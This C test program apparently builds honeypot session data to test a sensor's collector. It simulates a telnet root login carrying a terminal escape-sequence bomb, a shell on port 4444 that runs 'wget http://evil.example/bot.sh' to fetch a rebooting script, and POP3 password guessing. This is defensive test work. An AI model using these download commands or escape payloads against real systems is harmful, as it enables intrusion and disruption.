/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * make_inside FOLDER: a folder as collector leaves it, out of conversations on the wire: a telnet visit with a
 * full-screen program and an escape bomb, a shell on a port that fetches a file, guessers. For the tests of what reads
 * it. Prints the events that come of it, as JSON lines.
 */
#include "talk/test/wire.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define START (INT64_C(1795860000) * NS_PER_SEC) /* 2026-11-28 */

struct made {
	struct session_book *book;
	struct talk *t;
	int64_t now;
	int bad;
};

static void on_event(void *ctx, const struct event *e)
{
	struct made *m = ctx;
	char *json = event_valid(e) ? event_json(e, "hive") : NULL;
	if (json == NULL)
		m->bad = 1;
	else
		puts(json);
	free(json);
}

static void on_syslog(void *ctx, uint32_t guest, uint64_t flow_id, const char *data, size_t len,
		      bool cut)
{
	(void)ctx;
	(void)guest;
	(void)flow_id;
	(void)data;
	(void)len;
	(void)cut;
}

static void ticks(struct made *m, int64_t ns)
{
	uint32_t days;
	for (int64_t end = m->now + ns; m->now < end; m->now += NS_PER_SEC / 4) {
		talk_tick(m->t, m->now);
		if (session_book_tick(m->book, m->now, &days) != 0)
			m->bad = 1;
	}
}

static struct wire begin(struct made *m, uint16_t client_port, uint16_t port, bool by_guest)
{
	struct wire w = {
		.t = m->t,
		.by_guest = by_guest,
		.port = {client_port, port},
		.host = {by_guest ? 10 : 66, by_guest ? 66 : 10},
		.direction = by_guest ? DIR_OUTBOUND : DIR_INBOUND,
		.flow_id = client_port,
		.now_ns = m->now,
	};
	wire_open(&w);
	return w;
}

static void say(struct made *m, struct wire *w, unsigned side, const char *text)
{
	w->now_ns = m->now;
	wire_say(w, side, text, (uint32_t)strlen(text));
	ticks(m, NS_PER_SEC);
}

static void telnet(struct made *m)
{
	struct wire w = begin(m, 40001, 23, false);
	say(m, &w, SERVER,
	    "\xff\xfd\x1f"
	    "login: ");
	w.now_ns = m->now;
	wire_say(&w, CLIENT, "\xff\xfa\x1f\0\x50\0\x18\xff\xf0", 9);
	say(m, &w, CLIENT, "root\r\n");
	say(m, &w, SERVER, "Password: ");
	say(m, &w, CLIENT, "hive\r\n");
	say(m, &w, SERVER, "\r\nroot@web1:~# ");
	say(m, &w, CLIENT, "top\r\n");
	say(m, &w, SERVER,
	    "top\r\n\033[?1049h\033[H\033[2J\033[1;31mload\033[0m "
	    "0.1\033[5;10Hbusy\033]52;c;ZXZpbA==\a"
	    "\033[6n\033[21t");
	ticks(m, 60 * NS_PER_SEC);
	say(m, &w, CLIENT, "q");
	say(m, &w, SERVER, "\033[?1049lroot@web1:~# \xc3\xa9\xff");
	say(m, &w, CLIENT, "exit\r\n");
	say(m, &w, SERVER, "logout\r\n");
	w.now_ns = m->now;
	wire_close(&w);
}

static void shell(struct made *m)
{
	struct wire w = begin(m, 40002, 4444, false);
	say(m, &w, CLIENT, "id\n");
	say(m, &w, SERVER, "uid=0(root)\n");
	say(m, &w, CLIENT, "wget http://evil.example/bot.sh\n");
	struct wire h = begin(m, 40003, 80, true);
	say(m, &h, CLIENT, "GET /bot.sh HTTP/1.1\r\nHost: evil.example\r\n\r\n");
	say(m, &h, SERVER, "HTTP/1.1 200 OK\r\nContent-Length: 18\r\n\r\n#!/bin/sh\nreboot\n\n");
	h.now_ns = m->now;
	wire_close(&h);
	say(m, &w, SERVER, "saved\n");
	w.now_ns = m->now;
	wire_close(&w);
}

static void guess(struct made *m, uint16_t port)
{
	struct wire w = begin(m, port, 110, false);
	say(m, &w, SERVER, "+OK\r\n");
	w.now_ns = m->now;
	wire_say(&w, CLIENT, "PASS \xff\r\n", 8);
	say(m, &w, SERVER, "-ERR no\r\n");
	w.now_ns = m->now;
	wire_close(&w);
}

int main(int argc, char **argv)
{
	struct made m = {.now = START};
	int dir = argc == 2 ? open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC) : -1;
	struct session_book_conf conf = {
		.conf = {.on = 1,
			 .wire = 1,
			 .keep_days = 30,
			 .disk_bytes = 64u << 20,
			 .session_bytes = 8u << 20,
			 .files_bytes = 8u << 20,
			 .file_bytes = 1u << 20},
		.sensor = "hive",
		.dir = dir,
		.n_guests = 1,
		.guests = {{.name = "web1", .inside = addr_from_v4("\x0a\x1e\x00\x0a")}},
		.emit = on_event,
		.ctx = &m,
	};
	if (dir < 0 || session_book_open(&conf, &m.book) != 0)
		return 2;
	const struct talk_conf t = {.book = m.book, .sessions = true, .syslog = on_syslog};
	if (talk_create(&t, &m.t) != 0)
		return 2;
	telnet(&m);
	shell(&m);
	for (uint16_t port = 41000; port < 41005; port++)
		guess(&m, port);
	ticks(&m, 30 * NS_PER_SEC);
	talk_free(&m.t);
	session_book_close(&m.book);
	close(dir);
	return m.bad;
}
